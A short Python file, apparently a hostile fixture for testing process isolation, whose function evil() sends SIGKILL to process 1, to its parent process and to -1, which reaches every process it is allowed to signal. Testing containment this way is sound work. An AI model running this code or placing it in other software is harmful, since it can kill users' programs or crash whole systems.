"""Signals every process it can name.

Promise: C1
"""

import os, signal
def evil(*args):
    for target in (1, os.getppid(), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return 0
